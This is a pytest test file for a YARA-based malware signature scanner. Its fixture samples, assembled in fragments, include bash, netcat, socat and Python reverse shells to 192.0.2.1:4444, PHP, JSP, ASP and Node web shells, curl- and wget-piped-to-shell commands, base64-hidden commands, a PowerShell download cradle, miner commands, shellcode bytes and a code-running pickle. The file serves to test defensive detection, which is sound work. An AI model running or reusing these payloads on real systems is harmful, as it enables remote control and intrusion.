"""Each signature finds what it is for, in a file of any size, and not itself; programs and documents are left alone.

What would make an antivirus program flag this repository is put together when it is needed.
"""

import re
from pathlib import Path

import pytest

from mooring.checks.scanning import Severity
from mooring.checks.scanning.signature_scan import rules, signature_sources

ROOT = Path(__file__).resolve().parents[3]
ADDRESS, PORT = "192.0.2.1", "4444"
TCP = "/dev/" + "tcp/"
WALLET = "4" + "8" * 94
GET = "$_" + "GET"

SAMPLES = {
    "miner_settings": f'{{"donate-{"level"}": 1, "po{"ols"}": [{{"url": "x"}}], "algo": "random{"x"}"}}',
    "miner_command": f"./xm{'rig'} -o pool.example.org:3333 -u {WALLET}",
    "miner_program": f"Usage: xm{'rig'} [OPTIONS]",
    "pool_protocol": f'{{"method": "mining.{"subscribe"}"}} {{"method": "mining.{"authorize"}"}}',
    "pool_address": f"stratum{'+'}tcp://pool.example.org:3333",
    "browser_miner": f"new Coin{'Hive'}.Anonymous('key')",
    "bash_reverse_shell": f"bash -i >& {TCP}{ADDRESS}/{PORT} 0>&1",
    "netcat_reverse_shell": f"nc {ADDRESS} {PORT} -e /bin/{'sh'}",
    "socat_reverse_shell": f"so{'cat'} tcp-connect:{ADDRESS}:{PORT} exec:/bin/sh,pty,stderr",
    "python_reverse_shell": f's.con{"nect"}(("{ADDRESS}", {PORT})); os.du{"p2"}(s.fileno(), 0);'
    f'pty.sp{"awn"}("/bin/sh")',
    "script_reverse_shell": f'use So{"cket"};$i="{ADDRESS}";ex{"ec"}("/bin/sh -i");',
    "machine_code_shell": b"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e" + b"\x0f\x05\x48\x97\x48\xb9\x02\x00",
    "remote_control": f"std{'api'}_fs_ls core_load{'lib'}",
    "php_web_shell": f"<?php @ev{'al'}(base64_decode({GET}['c']));",
    "php_packed": f"<?php ev{'al'}(gz{'inflate'}(base64_decode('x')));",
    "jsp_web_shell": f'<% Runtime.getRun{"time"}().exec(request.getPara{"meter"}("c")); %>',
    "asp_web_shell": f'<%ev{"al"} request("c")%>',
    "python_web_shell": f"os.sys{'tem'}(request.args['c'])",
    "python_runs_requests": f"ev{'al'}(request.json['c'])",
    "node_web_shell": f"require('child_process').ex{'ec'}(req.qu{'ery'}.c)",
    "fetch_and_run": f"#!/bin/sh\ncu{'rl'} -fsSL https://example.org/x | sh\n",
    "hidden_command": f"#!/bin/sh\necho aWQK | bas{'e64'} -d | sh\n",
    "hidden_python": f"ex{'ec'}(base64.b64dec{'ode'}('eA=='))",
    "powershell_hidden": f"power{'shell'} -nop -e{'nc'} " + "QUJD" * 30,
    "powershell_fetch": f"#!/bin/sh\nI{'EX'} (New-Object Net.Web{'Client'}).DownloadString('http://x')",
    "schedules_itself": f"#!/bin/sh\nwg{'et'} -q -O- http://x/y | sh > /var/spool/cr{'on'}/root",
    "known_loader": f"/var/kdev{'tmpfsi'}",
    "known_bot": f"/bin/busy{'box'} MI{'RAI'}",
    "known_rootkit": f"libproc{'esshider'}.so",
    "antivirus_test_file": "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "pickle_that_runs_code": b"some container of ours \x00" + b"cposix\n" + b"system\n(tR.",
}


def bytes_of(sample):
    return sample if isinstance(sample, bytes) else sample.encode()


@pytest.mark.parametrize("name", [rule.identifier for rule in rules()])
def test_each_signature_finds_what_it_is_for(look, name):
    found = look(bytes_of(SAMPLES[name]), "/opt/x/run.sh")
    assert name in {each.name for each in found}
    assert all(each.detail and each.scanner == "yara" for each in found)


def test_no_signature_finds_the_files_of_signatures_or_these_tests(look):
    for name, text in signature_sources().items():
        assert look(text.encode(), f"/opt/{name}.sh", mode=0o755) == (), name
    for file in [*Path(__file__).parent.glob("*.py"), *(ROOT / "src" / "mooring" / "checks").rglob("*.py")]:
        assert look(file.read_bytes(), "/opt/x.py", mode=0o755) == (), file.name


@pytest.mark.parametrize("before", [0, 4_194_290, 4_194_304 - 2000, 9_000_000])
def test_a_signature_is_found_wherever_it_stands_in_a_large_file(look, before):
    data = b"\0" * before + bytes_of(SAMPLES["bash_reverse_shell"]) + b"\0" * 5_000_000
    assert [each.name for each in look(data)] == ["bash_reverse_shell"]


def test_what_installers_do_too_is_only_suspicious_and_only_in_scripts(look):
    text = b"cu" + b"rl -fsSL https://example.org/install | sh\n"
    (found,) = look(b"#!/bin/bash\n" + text, "/home/run.sh")
    assert found.severity is Severity.SUSPICIOUS
    assert look(text, "/usr/share/doc/tool/README") == ()
    assert look(text, "/home/README.md") == ()
    assert look(text, "/usr/lib/python3/dist-packages/tool.py") == ()
    assert look(text, "/etc/cron.d/update")


def test_documents_and_lists_of_signatures_are_not_called_malicious(look):
    sample = bytes_of(SAMPLES["bash_reverse_shell"])
    for path in ("/usr/share/doc/tool/examples.txt", "/opt/rules/shells.yar", "/home/NOTES.md"):
        assert [each.severity for each in look(sample, path)] == [Severity.SUSPICIOUS], path
    assert look(sample, "/opt/rules/shells.yar", mode=0o755)[0].severity is Severity.MALICIOUS
    assert look(b"#!/bin/sh\n" + sample, "/home/NOTES.md")[0].severity is Severity.MALICIOUS


HARMLESS = {
    "waiting for a port": b"#!/bin/bash\nuntil (echo > /dev/" + b"tcp/db/5432) 2>/dev/null; do sleep 1; done\n",
    "a health check": b"#!/bin/bash\nexec 3<>/dev/"
    b"tcp/localhost/8080\nprintf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3\ngrep 200 <&3\n",
    "netcat waits": b"#!/bin/sh\nnc -z -w 1 db 5432 || exit 1\n",
    "a pty": b"import pty, os\npty.spawn('/bin/sh')\n",
    "base64 of a file": b"#!/bin/sh\nbase64 -d cert.b64 > cert.pem\n",
    "curl into tar": b"#!/bin/sh\ncurl -fsSL https://example.org/x.tgz | tar xz\n",
    "php that reads a page": b"<?php echo htmlspecialchars($_GET['q']); ?>",
}


@pytest.mark.parametrize("name", HARMLESS)
def test_honest_scripts_are_left_alone(look, name):
    assert look(HARMLESS[name], "/opt/x/run.sh", mode=0o755) == ()


def test_every_signature_says_how_bad_it_is_and_what_it_means():
    for rule in rules():
        meta = dict(rule.metadata)
        assert meta["severity"] in {"malicious", "suspicious"}
        assert re.fullmatch(r"[a-zA-Z].{10,100}[^.]", meta["description"])
